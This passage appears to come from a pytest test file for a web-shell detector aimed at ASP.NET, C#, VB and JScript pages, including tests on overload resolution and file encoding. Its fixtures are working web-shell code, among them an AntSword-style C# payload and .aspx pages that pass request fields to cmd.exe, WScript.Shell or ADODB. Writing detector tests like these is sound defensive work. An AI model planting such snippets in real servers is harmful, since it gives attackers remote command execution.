    assert medium_or_above(report) == [], [c.chain for c in report.capabilities]


# ----------------------------------------------------------------------------- the request handed over as an object

ANTSWORD_ARRAY_PAYLOAD = """using System;
using System.Web;
public class Payload {
    // Loaded by `Assembly.Load(...).CreateInstance(...).Equals(new object[] { Request, Response })`,
    // the array form AntSword's C# template documents.
    public override bool Equals(object obj) {
        object[] parts = (object[])obj;
        var req = (HttpRequest)parts[0];
        var resp = (HttpResponse)parts[1];
        var p = System.Diagnostics.Process.Start("cmd.exe", "/c " + req.Form["c"]);
        resp.Write(p.Id);
        return true;
    }
    public override int GetHashCode() { return 0; }
}"""


def test_request_handed_over_in_an_object_array_is_request_data() -> None:
    report = run("Payload.cs", ANTSWORD_ARRAY_PAYLOAD)
    assert PROCESS in medium_or_above(report)
    assert "form field 'c'" in chain_of(report, PROCESS)


def test_request_cast_back_from_an_object_or_wrapped_is_request_data() -> None:
    code = cs_page("""void Page_Load(object sender, EventArgs e) {
    object held = Request;
    System.Diagnostics.Process.Start("cmd.exe", "/c " + ((HttpRequest)held).Form["c"]);
    System.Diagnostics.Process.Start(new HttpRequestWrapper(Request).QueryString["p"]);
}""")
    report = run("cast.aspx", code)
    assert PROCESS in medium_or_above(report)
    chains = " | ".join(c.chain for c in report.capabilities if c.rule_id == PROCESS)
    assert "form field 'c'" in chains and "query parameter 'p'" in chains


def test_benign_request_objects_cast_back_stay_quiet() -> None:
    code = cs_page("""public class Key {
    public int Id;
    public override bool Equals(object obj) { object[] parts = (object[])obj; var r = (HttpRequest)parts[0]; return r.Form["id"] == Id.ToString(); }
    public override int GetHashCode() { return Id; }
}
void Page_Load(object sender, EventArgs e) {
    object held = Request;
    Response.Write(Server.HtmlEncode(((HttpRequest)held).UserAgent));
    if (new HttpRequestWrapper(Request).QueryString["partial"] == "1") Response.Write("partial");
    System.Diagnostics.Process.Start("notepad.exe");
}""")
    report = run("cast-benign.aspx", code)
    assert medium_or_above(report) == [], [c.chain for c in report.capabilities]


@pytest.mark.parametrize(
    ("name", "code", "rule_id"),
    [
        (
            "shell1.aspx",
            vb_load_page('Dim sh = CreateObject("WScript.Shell.1")\nsh.Exec("cmd.exe /c " & Request("c"))'),
            PROCESS,
        ),
        (
            "shell1-js.aspx",
            '<%@ Page Language="JScript" %><% var sh = new ActiveXObject("WScript.Shell.1"); '
            'sh.Run(Request.Item("c")); %>',
            PROCESS,
        ),
        (
            "shellapp1.aspx",
            vb_load_page(
                'Dim sa = CreateObject("Shell.Application.1")\n'
                'sa.ShellExecute("cmd.exe", "/c " & Request("c"), "", "open", 0)'
            ),
            PROCESS,
        ),
        (
            "ado60.aspx",
            vb_load_page(
                'Dim cn = CreateObject("ADODB.Connection.6.0")\ncn.Open(Request("cs"))\ncn.Execute(Request("q"))'
            ),
            "EXH-WS-CODE-SQL-QUERY",
        ),
    ],
)
def test_version_dependent_progids_are_their_classes(name: str, code: str, rule_id: str) -> None:
    """`WScript.Shell.1` is the version-dependent ProgID of `WScript.Shell` (a ProgID may end
    with its version): the same class, the same finding."""
    assert rule_id in medium_or_above(run(name, code))


def test_a_versioned_progid_of_another_class_stays_quiet() -> None:
    code = vb_load_page(
        'Dim d = CreateObject("Scripting.Dictionary.1")\nd.Add("k", Request("v"))\nResponse.Write(d.Count)'
    )
    assert medium_or_above(run("dict1.aspx", code)) == []


OVERLOADS = """static void Run(string file) { System.Diagnostics.Process.Start(file); }
static void Run(string label, string file) { System.Diagnostics.Process.Start(file); }"""
VB_OVERLOADS = """Sub Run(f As String)
    System.Diagnostics.Process.Start(f)
End Sub
Sub Run(label As String, f As String)
    System.Diagnostics.Process.Start(f)
End Sub"""


def test_a_call_goes_to_the_overload_of_its_number_of_arguments() -> None:
    # Every call went to the first method of the name: `Run("status", Request["c"])` handed
    # "status" to `Run(file)` and the request's command to nothing.
    code = cs_page(f'void Page_Load(object s, EventArgs e) {{ Run("status", Request["c"]); }}\n{OVERLOADS}')
    assert "request parameter 'c'" in chain_of(run("overload.aspx", code), PROCESS)


@pytest.mark.parametrize(
    ("name", "code"),
    [
        (
            "label.aspx",
            cs_page(f'void Page_Load(object s, EventArgs e) {{ Run(Request["label"], "ipconfig.exe"); }}\n{OVERLOADS}'),
        ),
        ("label-vb.aspx", vb_load_page('Run(Request("label"), "ipconfig.exe")', members=VB_OVERLOADS)),
    ],
)
def test_a_label_given_to_an_overload_is_not_its_command(name: str, code: str) -> None:
    # Before, the label went to the one-parameter `Run(file)`: a critical command finding.
    assert medium_or_above(run(name, code)) == []


def test_a_utf8_mark_decides_even_with_code_page_bytes_after_it() -> None:
    # An editor saved GBK comments into a file that starts with UTF-8's mark: the compiler reads
    # UTF-8 (the bytes that are not are replaced), and so does the analysis, keeping `using` whole.
    comment = "// 执行命令\n".encode("gbk")
    data = (
        b"\xef\xbb\xbfusing System;\n"
        + comment
        + (
            b"public class H : System.Web.IHttpHandler {\n"
            b"  public bool IsReusable { get { return false; } }\n"
            b"  public void ProcessRequest(System.Web.HttpContext c) {\n"
            b'    System.Diagnostics.Process.Start("cmd.exe", "/c " + c.Request["c"]);\n  }\n}\n'
        )
    )
    text = _decode(data)
    assert text.startswith("\ufeffusing System;")
    report = analyze_code(data, "h.cs")
    assert report.encoding == ""
    assert PROCESS in medium_or_above(report)
